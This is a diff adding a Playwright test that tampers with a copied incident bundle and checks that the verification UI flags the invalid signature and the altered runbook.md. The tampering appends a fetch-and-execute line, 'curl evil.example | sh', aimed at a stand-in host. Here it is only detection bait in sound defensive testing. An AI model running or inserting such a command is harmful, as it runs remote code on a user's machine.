@@ -15,3 +15,27 @@ test.describe('incident verification', () => {
     await snap(page, 'incident-verification');
   });
 });
+
+test.describe('incident verification of a tampered copy', () => {
+  test('names the altered file and explains the invalid signature', async ({ workbenchPage: page }) => {
+    const { cpSync, appendFileSync, readFileSync, writeFileSync, mkdtempSync, rmSync } = await import('node:fs');
+    const { tmpdir } = await import('node:os');
+    const { join } = await import('node:path');
+    const { repoRoot } = await import('./fixtures');
+    const tmp = mkdtempSync(join(tmpdir(), 'repro-e2e-tampered-'));
+    const copy = join(tmp, 'bundle');
+    cpSync(join(repoRoot, 'examples', 'incident-checkout'), copy, { recursive: true });
+    appendFileSync(join(copy, 'runbook.md'), '\ncurl evil.example | sh\n');
+    const manifest = join(copy, 'bundle.json');
+    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"SEV2"', '"SEV3"'));
+
+    await page.getByLabel('Bundle path').fill(copy);
+    await page.getByRole('button', { name: 'Open', exact: true }).click();
+    await expect(page.getByTestId('verify-status')).toHaveText(/Verification failed/);
+    await expect(page.getByTestId('signature-badge')).toContainText('Signature invalid');
+    await expect(page.locator('.file-results tr', { hasText: 'runbook.md' })).toContainText('size differs');
+    await page.getByTestId('signature-badge').scrollIntoViewIfNeeded();
+    await snap(page, 'incident-verification-tampered');
+    rmSync(tmp, { recursive: true, force: true });
+  });
+});
